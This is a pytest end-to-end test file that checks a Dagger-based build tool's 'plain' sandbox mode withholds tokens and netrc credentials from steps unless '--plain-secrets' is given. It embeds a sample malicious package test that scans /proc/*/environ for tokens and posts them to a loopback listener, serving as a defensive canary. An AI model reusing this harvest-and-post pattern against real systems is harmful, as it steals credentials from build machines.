"""Plain mode gives no secret to what it runs, unless the caller says so on the command line.

The package's test is code of a stranger: it posts every token that it finds in `/proc`.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import dagger
import pytest
from dagger.client._session import ConnectParams, SingleConnection

from stiletto.engine.session import open_session, serve
from stiletto.progress import Progress

REPOSITORY = Path(__file__).parents[2]
CANARY = "canary-5b1f"

PAYLOAD = '''
"""Posts the tokens that other processes of this machine were given."""

import glob
import urllib.request


def test_as_any_dependency_could():
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                found.update(word for word in file.read().split(b"\\0") if b"canary-" in word)
        except OSError:
            continue
    urllib.request.urlopen(urllib.request.Request("@LISTENER@", b"\\n".join(found) or b"none"))
'''
PROJECT = """
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "sample-package"
version = "1.2.3"
requires-python = ">=3.11"
"""


@dataclass
class Listener:
    """Keeps what is posted to it."""

    url: str = ""
    heard: list[bytes] = field(default_factory=list)


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Listen on loopback, on a free port."""
    kept = Listener()

    class Keep(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            kept.heard.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = HTTPServer(("127.0.0.1", 0), Keep)
    kept.url = f"http://127.0.0.1:{server.server_port}/"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield kept
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def package(tmp_path: Path, listener: Listener) -> Path:
    """Make a package in a git repository; one of its tests is the payload."""
    root = tmp_path / "sample"
    for name, text in {
        "pyproject.toml": PROJECT,
        "src/sample_package/__init__.py": "",
        "tests/test_dependency.py": PAYLOAD.replace("@LISTENER@", listener.url),
        "netrc": f"machine index.example login me password {CANARY}\n",
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    identity = ("-c", "user.name=A Person", "-c", "user.email=a@example.org")
    for words in (("init", "-q"), ("add", "."), (*identity, "commit", "-qm", "Begin")):
        subprocess.run(["git", *words], cwd=root, check=True)
    return root


@pytest.fixture(scope="module")
def environ(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Return the environment of every command here: one store, and tokens."""
    root = tmp_path_factory.mktemp("plain")
    data = Path(os.environ.get("XDG_DATA_HOME") or Path.home() / ".local" / "share")
    return {
        **os.environ,
        "UV_PYTHON_INSTALL_DIR": os.environ.get("UV_PYTHON_INSTALL_DIR", str(data / "uv/python")),
        "HOME": str(root),
        "STILETTO_CACHE": str(root / "store"),
        "STILETTO_IDLE": "0",
        "INDEX_TOKEN": CANARY,
        "GITHUB_TOKEN": CANARY,
        "OIDC_TOKEN": CANARY,
    }


def call(environ: dict[str, str], package: Path, words: Sequence[str]) -> tuple[int, str]:
    """Run the module in plain mode over the package; return exit code and what was said."""
    program = str(Path(sys.executable).with_name("stiletto"))
    mode = ("--sandbox=plain", "--progress=plain", "-m", str(REPOSITORY))
    done = subprocess.run(
        [program, "call", *mode, "--source", ".", *words],
        cwd=package,
        env=environ,
        capture_output=True,
        text=True,
        check=False,
    )
    return done.returncode, done.stdout + done.stderr


@pytest.mark.slow
@pytest.mark.e2e
@pytest.mark.network
@pytest.mark.parametrize(
    "words",
    [
        ("release", "--bump=patch", "--git=.", "--index-token=env://INDEX_TOKEN"),
        ("release", "--bump=patch", "--git=.", "--github-token=cmd://printenv GITHUB_TOKEN"),
        ("publish", "--git=.", "--tag=v1.2.3", "--oidc-token=env://OIDC_TOKEN"),
        ("--netrc=file://netrc", "test"),
    ],
)
def test_what_needs_a_secret_stops_before_any_step(
    environ: dict[str, str], package: Path, listener: Listener, words: tuple[str, ...]
) -> None:
    """Release, publish and an index credential end with one message; no test has run."""
    code, said = call(environ, package, words)

    assert code == 1, said
    last = said.rpartition("\nError: ")[2]
    assert "is not given to steps in plain mode" in last
    assert "`dagger`" in last
    assert "--plain-secrets" in last
    assert "leave out `--sandbox plain`" in last or "sysctl" in last or "--security-opt" in last
    assert "pytest" not in said
    assert CANARY not in said
    assert [] == listener.heard


@pytest.mark.slow
@pytest.mark.e2e
@pytest.mark.network
def test_the_flag_gives_secrets_all_the_same(
    environ: dict[str, str], package: Path, listener: Listener
) -> None:
    """With --plain-secrets the call runs, as it does without any secret."""
    words = ("--plain-secrets", "--netrc=file://netrc", "test", "--python=3.11")
    code, said = call(environ, package, words)

    assert code == 0, said
    assert "without isolation" in said
    assert 1 == len(listener.heard)


@pytest.mark.parametrize("mounted", [False, True])
async def test_a_step_with_a_secret_of_code_is_refused(tmp_path: Path, mounted: bool) -> None:
    """A secret that code made is refused where a step would get it; the step does not run."""
    environ = {
        "PATH": os.environ["PATH"],
        "STILETTO_IDLE": "0",
        "STILETTO_CACHE": str(tmp_path / "store"),
    }
    async with (
        open_session(
            workdir=tmp_path, sandbox="plain", progress=Progress(), environ=environ
        ) as engine,
        serve(engine) as (port, token),
        SingleConnection(ConnectParams(port=port, session_token=token)) as connection,
    ):
        dag = dagger.Client.from_connection(connection)
        secret = dag.set_secret("made", CANARY)
        base = dag.container().from_("python:3.11-slim")
        given = (
            base.with_mounted_secret("/run/made", secret)
            if mounted
            else base.with_secret_variable("MADE", secret)
        )
        ran = tmp_path / "ran"
        with pytest.raises(dagger.QueryError, match="the secret 'made' is not given to steps"):
            await given.with_exec(["touch", str(ran)]).sync()
        with pytest.raises(dagger.QueryError, match="env://PATH is not given to steps"):
            await dag.secret("env://PATH").plaintext()

    assert not ran.exists()
